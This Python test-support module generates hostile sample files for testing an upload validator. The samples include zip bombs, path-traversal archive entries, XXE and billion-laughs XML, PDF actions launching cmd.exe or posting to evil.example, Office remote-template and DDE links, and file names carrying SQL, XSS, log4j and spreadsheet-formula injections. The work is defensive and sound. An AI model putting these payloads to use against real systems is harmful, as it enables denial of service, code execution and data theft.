"""Files that mean harm, made on the spot: (name, content) by what they try. None of them may do any."""

from __future__ import annotations

import io
import itertools
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

from tests.support.file_makers import (
    DTD,
    EICAR,
    LAUGHS,
    OFFICE,
    OLE,
    PART,
    PDF,
    PROGRAMS,
    SCRIPT,
    SVG,
    jpeg,
    office,
    packed,
    pdf,
    png,
    relations,
)


@dataclass(frozen=True)
class Harm:
    """One file, and whether it must be refused; what is not refused must at least never be shown inline."""

    what: str
    name: str
    content: bytes
    refused: bool = True


def harms() -> Iterator[Harm]:
    """All of them, the same each time."""
    yield from _bombs()
    yield from _entries()
    yield from _markup()
    yield from _kinds()
    yield from _names()
    yield from _active()
    yield from _papers()
    yield from _rest()


def _bombs() -> Iterator[Harm]:
    # Measured while it is unpacked: packed to a thousandth, and each larger than what may be unpacked at all.
    flat = b"\0" * 30_000_000
    for kind in ("zip", *OFFICE):
        inside = {"a.txt": flat} if kind == "zip" else {PART[kind] + ".bin": flat}
        yield Harm("flat bomb", f"bomb.{kind}", packed(inside) if kind == "zip" else office(kind, inside))
    small = packed({"a.txt": b"\0" * 3_000_000})
    for ending in ("zip", "ZIP", "jar", "gz", "7z", "rar", "tar", "docx", "xz", "bz2", "dat"):
        yield Harm("nested archive", "nested.zip", packed({f"inner.{ending}": small}))
    for kind in OFFICE:
        yield Harm("archive in a document", f"nested.{kind}", office(kind, {PART[kind] + ".zip": small}))
        yield Harm("archive under another name", f"nested.{kind}", office(kind, {PART[kind] + ".bin": small}))
    deep = office("xlsx", {"xl/embeddings/a.xlsx": office("xlsx")})
    yield Harm("twice embedded", "deep.docx", office("docx", {"word/embeddings/b.xlsx": deep}))
    yield Harm(
        "bomb embedded", "deep.docx", office("docx", {"word/embeddings/b.xlsx": office("xlsx", {"xl/x.bin": flat})})
    )
    yield Harm("many entries", "many.zip", packed({f"{n}.txt": b"x" for n in range(1_200)}))
    for count in (3, 5, 40):
        yield Harm("overlapping entries", f"overlap{count}.zip", _overlapping(count))
    for lie in (1, 10, 1_000):
        yield Harm("size that lies", f"lie{lie}.zip", _lying(lie))
    for count in (1_001, 30_000, 65_535):
        yield Harm("long directory", f"directory{count}.zip", _counting(count))


def _overlapping(count: int) -> bytes:
    """One entry's bytes, which many entries claim for themselves."""
    one = packed({"a": b"\0" * 100_000})
    at = one.rfind(b"PK\x01\x02")
    end = one.rfind(b"PK\x05\x06")
    body, record = one[:at], one[at:end]
    directory = b"".join(record[:46] + bytes([97 + n % 26]) + record[47:] for n in range(count))
    return body + directory + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(directory), len(body), 0)


def _lying(size: int) -> bytes:
    made = bytearray(packed({"a.txt": b"\0" * 9_000_000}))
    at = made.rfind(b"PK\x01\x02")
    made[at + 24 : at + 28] = struct.pack("<L", size)
    return bytes(made)


def _counting(count: int) -> bytes:
    made = bytearray(packed({"a.txt": b"x"}))
    at = made.rfind(b"PK\x05\x06")
    made[at + 8 : at + 12] = struct.pack("<HH", count, count)
    return bytes(made)


def _entries() -> Iterator[Harm]:
    names = (
        "../../etc/passwd",
        "/etc/passwd",
        "a/../../b",
        "..",
        "C:/windows/system32/x.txt",
        "..\\..\\x.txt",
        "\\\\server\\x",
        "a\x01b.txt",
        "a\u202etxt.exe",
        "a\u200bb.txt",
        "x" * 600 + ".txt",
        "run.exe",
        "run.bat",
        "page.html",
        "page.svg",
        "run.js",
        "link.lnk",
        "script.ps1",
        "a/./../../x",
        "a.hta",
    )
    for name in names:
        yield Harm("entry that leads elsewhere or runs", "entries.zip", packed({name: b"x", "b.txt": b"y"}))
    for kind in ("zip", *OFFICE):
        content = packed({"a.txt": b"x"}, link="link") if kind == "zip" else _with_link(kind)
        yield Harm("symbolic link", f"link.{kind}", content)
    for kind in OFFICE:
        for name in ("../../x", "/x", "a\\..\\b"):
            yield Harm("entry that leads elsewhere", f"entries.{kind}", office(kind, {name: b"x"}))
    locked = bytearray(packed({"a.txt": b"x"}))
    locked[6] |= 1
    locked[locked.rfind(b"PK\x01\x02") + 8] |= 1
    yield Harm("locked", "locked.zip", bytes(locked))


def _with_link(kind: str) -> bytes:
    made = io.BytesIO(office(kind))
    with zipfile.ZipFile(made, "a") as archive:
        info = zipfile.ZipInfo("link")
        info.external_attr = 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    return made.getvalue()


def _markup() -> Iterator[Harm]:
    external = '<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd"><x/>'
    parameter = '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:9/">%p;]><x/>'
    quadratic = f'<!DOCTYPE x [<!ENTITY a "{"A" * 50_000}">]><x>{"&a;" * 1_000}</x>'
    texts = {"file": DTD, "external": external, "parameter": parameter, "laughs": LAUGHS, "quadratic": quadratic}
    for kind, (what, text) in itertools.product(OFFICE, texts.items()):
        yield Harm(f"XXE ({what})", f"{what}.{kind}", office(kind, {PART[kind] + ".xml": text.encode()}))
    for kind in OFFICE:
        yield Harm("XXE in UTF-16", f"wide.{kind}", office(kind, {PART[kind] + ".xml": DTD.encode("utf-16")}))
        yield Harm(
            "XXE after blanks", f"late.{kind}", office(kind, {PART[kind] + ".xml": b" " * 70_000 + external.encode()})
        )
        yield Harm("XXE in relations", f"rels.{kind}", office(kind, {PART[kind] + ".rels": DTD.encode()}))
    for what, text in texts.items():
        yield Harm(f"SVG ({what})", f"{what}.svg", text.encode())
        yield Harm(f"XML ({what})", f"{what}.xml", text.encode())


def _kinds() -> Iterator[Harm]:
    for ending in (
        "svg",
        "html",
        "htm",
        "xhtml",
        "js",
        "exe",
        "php",
        "xml",
        "mht",
        "swf",
        "hta",
        "docm",
        "xlsm",
        "lnk",
        "iso",
        "7z",
        "rar",
        "gz",
        "tar",
        "eml",
        "rtf",
        "doc",
        "xls",
        "",
        "css",
        "wasm",
        "url",
        "desktop",
    ):
        for content in (SVG, SCRIPT, b"MZ\x90\x00" + b"\0" * 60):
            yield Harm("kind that is not taken", f"file.{ending}", content)
    # One kind by name, another by content.
    contents = {
        "html": SCRIPT,
        "svg": SVG,
        "exe": b"MZ\x90\x00\x03" + b"\0" * 99,
        "elf": b"\x7fELF\x02\x01" + b"\0" * 99,
        "gif": b"GIF89a" + b"\0" * 30,
    }
    for ending, content in itertools.product(("pdf", "png", "jpg", "jpeg", "zip", *OFFICE), contents.values()):
        yield Harm("content that is not what the name says", f"picture.{ending}", content)
    for ending, start in (("pdf", PDF), ("png", png(1, 1)), ("jpg", jpeg(1, 1))):
        yield Harm("polyglot with an archive", f"both.{ending}", start + packed({"a.txt": b"x"}))
        yield Harm("polyglot with a Java archive", f"both.{ending}", start + packed({"META-INF/MANIFEST.MF": b"x"}))
    for start in (PDF, png(1, 1), jpeg(1, 1), SCRIPT, b"#!/bin/sh\n"):
        yield Harm("archive behind something else", "both.zip", start + packed({"a.txt": b"x"}))
        yield Harm("document behind something else", "both.docx", start + office("docx"))
    for kind in OFFICE:
        other = "odt" if kind != "odt" else "docx"
        yield Harm("another kind of document", f"other.{other}", office(kind))
        yield Harm("plain archive as a document", f"plain.{kind}", packed({"a.txt": b"x"}))
    for kind in ("docx", "xlsx", "pptx"):
        yield Harm("macros", f"macros.{kind}", office(kind, {f"{PART[kind][:-1]}vbaProject.bin": b"x"}))
    for picture in (png(100_000, 100_000), png(2**31 - 1, 1), png(30_001, 1), png(0, 5)):
        yield Harm("huge picture", "huge.png", picture)
    for picture in (jpeg(65_535, 65_535), jpeg(31_000, 10), jpeg(0, 7)):
        yield Harm("huge picture", "huge.jpg", picture)


def _active() -> Iterator[Harm]:
    """Documents that run something, or fetch it, when they are opened."""
    for kind in OFFICE:
        for what, content in PROGRAMS.items():
            yield Harm(
                f"program in a document ({what})", f"program.{kind}", office(kind, {f"{PART[kind]}.bin": content})
            )
        yield Harm("embedded object", f"object.{kind}", office(kind, {f"{PART[kind]}.bin": OLE}))
        for name in ("run.exe", "run.js", "page.html", "link.lnk", "a.hta"):
            yield Harm(
                "program by its name in a document", f"named.{kind}", office(kind, {f"{PART[kind]}{name}": b"x"})
            )
        yield Harm(
            "test virus in a document", f"virus.{kind}", office(kind, {f"{PART[kind]}.bin": b"x" * 65_500 + EICAR})
        )
    for kind in ("docx", "xlsx", "pptx"):
        part = PART[kind][:-1]
        for type in (
            "attachedTemplate",
            "oleObject",
            "frame",
            "subDocument",
            "image",
            "externalLinkPath",
            "mailMergeSource",
            "slideMaster",
        ):
            for target in ("http://evil.example/t.dotm", "\\\\evil.example\\share\\t.dotm"):
                yield Harm(
                    f"fetched unasked ({type})",
                    f"outside.{kind}",
                    office(kind, {f"{part}_rels/a.xml.rels": relations(type, target)}),
                )
        yield Harm(
            "fetched unasked, after blanks",
            f"late.{kind}",
            office(
                kind,
                {
                    f"{part}_rels/a.xml.rels": relations("frame", "http://a.example").replace(
                        b"><R", b">" + b" " * 70_000 + b"<R"
                    )
                },
            ),
        )
        for target in (
            "file:///c:/x.exe",
            "\\\\evil.example\\x",
            "ms-msdt:/id",
            "javascript:alert(1)",
            "search-ms:query=x",
        ):
            yield Harm(
                "link that runs",
                f"link.{kind}",
                office(kind, {f"{part}_rels/a.xml.rels": relations("hyperlink", target)}),
            )
        yield Harm("control", f"control.{kind}", office(kind, {f"{part}activeX/activeX1.xml": b"<a/>"}))
        declared = b'<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
        yield Harm(
            "declared macros",
            f"declared.{kind}",
            packed(
                {
                    "[Content_Types].xml": declared,
                    {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}[
                        kind
                    ]: b"<d/>",
                }
            ),
        )
    yield Harm("macros of old", "sheets.xlsx", office("xlsx", {"xl/macrosheets/sheet1.xml": b"<x/>"}))
    yield Harm(
        "link to a program",
        "dde.xlsx",
        office("xlsx", {"xl/externalLinks/e1.xml": b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'}),
    )
    yield Harm(
        "field that runs",
        "dde.docx",
        office("docx", {"word/a.xml": b"<w><instrText>DDEAUTO c:/windows/cmd.exe</instrText></w>"}),
    )
    for kind in ("odt", "ods", "odp"):
        yield Harm("macros", f"basic.{kind}", office(kind, {"Basic/Standard/Module1.xml": b"<m/>"}))
        yield Harm("script", f"script.{kind}", office(kind, {"Scripts/python/a.py": b"x"}))
        yield Harm(
            "listener",
            f"listener.{kind}",
            office(kind, {"a.xml": b'<a><script:event-listener xlink:href="vnd.sun.star.script:x"/></a>'}),
        )
    for what, content in PROGRAMS.items():
        yield Harm(f"program in an archive ({what})", "archive.zip", packed({"report.dat": content}))
    yield Harm("old office file in an archive", "archive.zip", packed({"report.doc": OLE}))
    yield Harm("test virus in an archive", "archive.zip", packed({"a.txt": EICAR}))


#: What a PDF does or brings along, in its catalogue; names may be written with numbers instead of letters.
ACTIONS = (
    b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>", b"/OpenAction<</S/#4aavaScript/#4a#53(app.alert(1))>>", b"/OpenAction 4 0 R",
    b"/AA<</WC<</S/JavaScript/JS(x)>>>>", b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(x)>>]>>>>",
    b"/OpenAction<</S/Launch/F(cmd.exe)>>",
    b"/OpenAction<</S/Launch/Win<</F(cmd.exe)>>>>", b"/OpenAction<</S/ImportData/F(x)>>", b"/OpenAction<</S/SubmitForm/F(http://evil.example)>>",
    b"/OpenAction<</S/GoToE/F(x)>>", b"/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\x)>>", b"/AcroForm<</XFA[(a)4 0 R]>>",
    b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[<</S/Launch/F(x)>>]>>", b"/OpenAction<</S/Rendition/JS(x)>>",
    b"/Names<</EmbeddedFiles<</Names[(a.exe)4 0 R]>>>>", b"/AF[<</Type/Filespec/EF<</F 4 0 R>>>>]",
)  # fmt: skip
_ATTACHED = b"<</Type/EmbeddedFile/Length 1>>stream\nx\nendstream"


def _papers() -> Iterator[Harm]:
    """PDFs that do something when they are opened, have something inside, or cannot be looked into."""
    for n, action in enumerate(ACTIONS):
        more = b"<</S/JavaScript/JS(x)>>" if action == b"/OpenAction 4 0 R" else _ATTACHED
        yield Harm("active PDF", f"active{n}.pdf", pdf(action, more))
        yield Harm("active PDF in an archive", "papers.zip", packed({f"active{n}.pdf": pdf(action, more)}))
    yield Harm("script that nothing leads to", "loose.pdf", pdf(b"", b"<</S/JavaScript/JS(x)>>"))
    yield Harm("file that nothing leads to", "loose.pdf", pdf(b"", _ATTACHED))
    yield Harm("script in packed objects", "packed.pdf", _in_stream(b"<</S/JavaScript/JS(x)>>"))
    yield Harm(
        "locked PDF",
        "locked.pdf",
        pdf(
            trailer=b"/Encrypt<</Filter/Standard/V 2/R 3/Length 128/P -1/O("
            + b"o" * 32
            + b")/U("
            + b"u" * 32
            + b")>>/ID[(a)(a)]"
        ),
    )
    for cut in (20, 60, 120, len(PDF) - 30):
        yield Harm("cut PDF", "cut.pdf", PDF[:cut])
    yield Harm("PDF without an end", "endless.pdf", PDF.replace(b"startxref", b"startnull"))
    yield Harm("PDF that leads nowhere", "nowhere.pdf", PDF.replace(b"startxref\n", b"startxref\n9"), refused=False)
    yield Harm("test virus in a PDF", "virus.pdf", pdf(b"", b"(" + EICAR.replace(b"(", b"").replace(b")", b"") + b")"))


def _in_stream(inside: bytes) -> bytes:
    """A PDF whose fourth object lies packed in the fifth, and whose table is an object too."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
    ]
    stream = zlib.compress(b"4 0 " + inside)
    made, places = b"%PDF-1.7\n", {}
    for n, one in enumerate(objects, 1):
        places[n] = len(made)
        made += b"%d 0 obj%s endobj\n" % (n, one)
    places[5] = len(made)
    made += b"5 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream endobj\n" % (
        len(stream),
        stream,
    )
    places[6] = len(made)
    rows = [(0, 0, 65_535), *((1, places[n], 0) for n in (1, 2, 3)), (2, 5, 0), (1, places[5], 0), (1, places[6], 0)]
    table = zlib.compress(b"".join(struct.pack(">BIH", *row) for row in rows))
    head = b"6 0 obj<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Filter/FlateDecode/Length %d>>" % len(table)
    return made + head + b"stream\n%s\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % (table, places[6])


def _names() -> Iterator[Harm]:
    """A harmless content under a name that is not: taken under a clean one, or refused."""
    names = (
        "../../../etc/passwd.pdf",
        "..\\..\\x.pdf",
        "/etc/x.pdf",
        "C:\\x.pdf",
        "a\x00.pdf",
        "a.exe\x00.pdf",
        "gpj\u202efdp.pdf",
        "a\u200b.pdf",
        "\ufeffa.pdf",
        "x" * 5_000 + ".pdf",
        "中" * 3_000 + ".pdf",
        ".pdf",
        " .pdf",
        "con.pdf",
        "nul.pdf",
        "a\r\nSet-Cookie: x=1.pdf",
        'a"; filename="b.html.pdf',
        "a%00.pdf",
        "a;b.pdf",
        "<img src=x onerror=alert(1)>.pdf",
        "'; DROP TABLE documents;--.pdf",
        "a\tb.pdf",
        "=cmd|' /C calc'!A0.pdf",
        "{{7*7}}.pdf",
        "${jndi:ldap://x}.pdf",
        "~/.ssh/x.pdf",
        "\u2028.pdf",
        "a\u0000b\u202e.pdf",
        "file:///etc/x.pdf",
        "-rf.pdf",
    )
    for name in names:
        yield Harm("odd name", name, PDF, refused=False)
    for ending in ("pdf.exe", "pdf.js", "pdf.html", "docx.scr", "pdf.svg", "pdf ", "pdf.", "pdf\u202e"):
        yield Harm("double extension", f"report.{ending}", SCRIPT)
    for ending in ("exe.pdf", "js.pdf", "html.pdf", "php.pdf"):
        yield Harm("double extension the other way", f"report.{ending}", PDF, refused=False)


def _rest() -> Iterator[Harm]:
    for ending in ("pdf", "png", "jpg", "zip", "txt", "csv", *OFFICE):
        yield Harm("empty", f"empty.{ending}", b"")
    for ending in ("pdf", "png", "jpg", "zip", *OFFICE):
        yield Harm("test virus under a false name", f"eicar.{ending}", EICAR)
    for ending in ("txt", "csv"):
        yield Harm("test virus", f"eicar.{ending}", EICAR)
        yield Harm("test virus far inside", f"far.{ending}", b"x" * 65_500 + EICAR)
        yield Harm("web page as a text", f"page.{ending}", SCRIPT, refused=False)
        yield Harm("bytes as a text", f"bytes.{ending}", b"\x00\x01\x02\x03" * 30)
        yield Harm("program as a text", f"program.{ending}", b"\x7fELF\x02\x01\x01" + b"\0" * 60)
    whole = office("docx", {"word/a.bin": bytes(range(256)) * 40})
    for cut in range(20, len(whole), max(1, len(whole) // 12)):
        yield Harm("cut off", "cut.docx", whole[:cut])
    for at in range(0, 30, 6):
        broken = bytearray(packed({"a.txt": b"hello " * 50}))
        broken[-22 + at % 20] ^= 0xFF
        yield Harm("broken end", "broken.zip", bytes(broken))
